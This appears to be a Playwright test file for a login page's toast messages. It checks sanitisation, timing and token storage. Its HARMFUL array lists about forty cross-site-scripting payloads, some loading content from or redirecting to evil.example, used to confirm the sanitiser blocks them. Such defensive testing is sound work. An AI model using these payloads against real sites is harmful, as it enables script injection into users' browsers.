import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, it, onTestFinished } from 'vitest';
import type { RunningBrowser } from './browser.ts';
import { layCable, rawAnswer, type Cable } from './cable.ts';
import type { RunningHost } from './hostProcess.ts';
import { startPhone, startWarmHost } from './newPhone.ts';
import { visit } from './tour.ts';
import { stopClock } from './volunteer.ts';
import { ORIGIN } from './warmPhone.ts';

/**
 * Ways to run a script, to load something, to lead elsewhere or to cover the page, in what a host
 * may say.
 */
const HARMFUL = [
  '<script>pwned()</script>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=pwned()>',
  '<img src="/favicon.svg" onload="pwned()">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">go</a>',
  '<a href="data:text/html,<script>pwned()</script>">go</a>',
  '<form action="//evil.example"><button>send</button></form>',
  '<form><input name=nodeName><b>x',
  '<object data="//evil.example/x.swf"></object>',
  '<embed src="//evil.example/x">',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<marquee onstart=pwned()>x</marquee>',
  '<b onmouseover=pwned()>touch</b>',
  '<b style="position:fixed;inset:0;background:red">x</b>',
  '<b class="dialog" id="root">x</b>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<b><script>pwned()</b></script>',
  '<<script>pwned()//<</script>',
  '<img src=x:x onerror&#61;pwned()>',
  '<img """><script>pwned()</script>">',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '\u0000<scr\u0000ipt>pwned()</script>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=pwned() /></svg>#x">',
];

let host: RunningHost;
let cable: Cable;
let browser: RunningBrowser;
let page: Page;

beforeAll(async () => {
  host = await startWarmHost();
  cable = await layCable(host.port);
  browser = await startPhone(cable.port);
  ({ page } = browser);
  await page.clock.install();
  // Other words for the same would let a policy of the page hide what the sanitiser lets through:
  // this counts what would have run.
  await page.addInitScript(() =>
    Object.assign(globalThis, { pwned: () => Object.assign(globalThis, { wasPwned: true }) }),
  );
});
afterAll(async () => {
  await browser.close();
  await cable.close();
  await host.stop();
});

beforeEach(async () => {
  cable.clear();
  await visit(page, '/login?lng=en');
  await page.getByLabel('User name').fill('somebody');
  await page.getByLabel('Password', { exact: true }).fill('Some#thing1');
});

const toast = () => page.locator('.toast');

/** Messages go after seconds: the page's clock stands still until the test is over. */
async function standStill(): Promise<void> {
  onTestFinished(() => page.clock.resume());
  await stopClock(page);
}

/** Logs in at a host that answers this. */
async function hear(answer: object | string, status = 200): Promise<void> {
  cable.answerInstead(
    'POST /login',
    rawAnswer(
      status,
      'application/json',
      typeof answer === 'string' ? answer : JSON.stringify(answer),
    ),
  );
  await page.getByRole('main').getByRole('button', { name: 'Log in' }).click();
}

it('of a message in HTML the emphasis is shown, and nothing else of it', async () => {
  await standStill();
  await hear({
    status: false,
    msg: 'Ask <b>the</b> <i>office</i><br><em>on</em> <strong>Monday</strong>',
    data: {},
  });
  await toast().locator('strong').waitFor();
  expect(await toast().locator('span').innerHTML()).toBe(
    'Ask <b>the</b> <i>office</i><br><em>on</em> <strong>Monday</strong>',
  );
});

it('nothing harmful that a host may say runs, loads, leads elsewhere or covers the page', async () => {
  const faults: string[] = [];
  await standStill();
  for (const [index, harm] of HARMFUL.entries()) {
    await hear({ status: false, msg: `<i>${index}</i>${harm}`, data: {} });
    await toast()
      .locator('i', { hasText: new RegExp(`^${index}$`) })
      .waitFor();
    const left = await toast()
      .locator('span')
      .evaluate((span) =>
        [...span.querySelectorAll('*')]
          .filter(
            ({ tagName, attributes }) =>
              !['B', 'I', 'EM', 'STRONG', 'BR'].includes(tagName) || attributes.length > 0,
          )
          .map(({ outerHTML }) => outerHTML),
      );
    if (left.length > 0) faults.push(`${harm} leaves ${left.join()}`);
  }
  expect(faults).toEqual([]);
  expect(await page.evaluate(() => 'wasPwned' in globalThis)).toBe(false);
  expect(new URL(page.url()).pathname).toBe('/login');
}, 300_000);

it('an earlier message goes before the next comes; an error is an alert', async () => {
  await standStill();
  await hear({ status: false, msg: 'First', data: {} });
  await page.getByRole('alert').filter({ hasText: 'First' }).waitFor();
  await hear({ status: false, msg: 'Second', data: {} });
  await page.getByRole('alert').filter({ hasText: 'Second' }).waitFor();
  expect(await toast().count()).toBe(1);
});

it.each([
  ['a login page', '<html>Welcome</html>', 200],
  ['nothing', '', 502],
])('an answer without data says "Server busy!" (%s)', async (_, body, status) => {
  await standStill();
  await hear(body, status);
  await page.getByRole('alert').filter({ hasText: 'Server busy!' }).waitFor();
});

it('an empty message shows nothing', async () => {
  await standStill();
  await hear({ status: false, msg: 'First', data: {} });
  await toast().waitFor();
  await hear({ status: false, msg: '', data: {} });
  await page.getByRole('main').getByRole('button', { name: 'Log in', disabled: false }).waitFor();
  await toast().waitFor({ state: 'detached' });
});

it('an error stays for 4000 ms, and a success for 2000', async () => {
  await standStill();
  await hear({ status: false, msg: 'Wrong', data: {} });
  await expectToStay(4000);
  await hear({ status: true, msg: 'Welcome', auth: 'a-token', data: { name: 'Somebody' } });
  await page.waitForURL('**/home');
  await expectToStay(2000);
});

it('a token is stored whenever an answer carries one', async () => {
  await hear({ status: true, msg: 'Welcome', auth: 'a-token', data: { name: 'Somebody' } });
  await page.waitForURL('**/home');
  expect(await page.evaluate(() => localStorage.getItem('token'))).toBe('a-token');
  cable.answerInstead(
    'POST /viewAllAnnounce',
    rawAnswer(
      200,
      'application/json',
      JSON.stringify({
        status: true,
        msg: '',
        auth: 'the-next-token',
        data: { items: [], next: null },
      }),
    ),
    9,
  );
  await page.goto(`${ORIGIN}/announcement?lng=en`);
  await page.getByText('No announcements yet.').waitFor();
  await page.waitForFunction(() => localStorage.getItem('token') === 'the-next-token');
});

/**
 * The toast is there until this many milliseconds have passed, and then goes. The clock stands
 * still in between.
 */
async function expectToStay(ms: number): Promise<void> {
  await toast().waitFor();
  await page.clock.runFor(ms - 300);
  expect(await toast().count()).toBe(1);
  await page.clock.runFor(400);
  await toast().waitFor({ state: 'detached' });
}
